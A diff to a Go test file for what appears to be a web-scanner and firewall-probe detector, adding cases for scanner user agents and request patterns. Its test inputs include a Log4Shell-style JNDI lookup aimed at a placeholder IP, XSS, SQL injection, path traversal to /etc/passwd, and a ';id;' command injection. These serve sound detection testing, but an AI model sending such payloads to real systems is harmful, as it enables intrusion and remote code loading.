@@ -356,8 +356,12 @@ func TestScanners(t *testing.T) {
 		paths []string
 		want  []string
 	}{
-		"named":  {"Mozilla/5.00 (Nikto/2.5.0)", []string{"/"}, []string{"web_scanner@" + bad}},
-		"filter": {"Mozilla/5.0", []string{"/?a=<script>alert(1)</script>", "/?a=UNION%20SELECT%20ALL", "/?a=..%2f..%2fetc%2fpasswd"}, []string{"firewall_probe@" + bad}},
+		"named":                {"Mozilla/5.00 (Nikto/2.5.0)", []string{"/"}, []string{"web_scanner@" + bad}},
+		"lists, of parameters": {"Fuzz Faster U Fool v1.1.0", spread("/?", "=1"), []string{"web_scanner@" + bad}},
+		"lists, a few":         {"gobuster/3.6", []string{"/a", "/b"}, nil},
+		"in a field":           {"${jndi:ldap://203.0.113.9:1389/a}", []string{"/a", "/b", "/c", "/d"}, []string{"web_scanner@" + bad}},
+		"in a field, once":     {"${jndi:ldap://203.0.113.9:1389/a}", []string{"/"}, nil},
+		"filter":               {"Mozilla/5.0", []string{"/?a=<script>alert(1)</script>", "/?a=UNION%20SELECT%20ALL", "/?a=..%2f..%2fetc%2fpasswd"}, []string{"firewall_probe@" + bad}},
 		"attacks": {
 			"Mozilla/5.0",
 			[]string{"/a?x=<script>alert(1)</script>", "/b?id=1+UNION+SELECT+2", "/c?x=%252e%252e%252f%252e%252e%252f", "/d?x=;id;"},
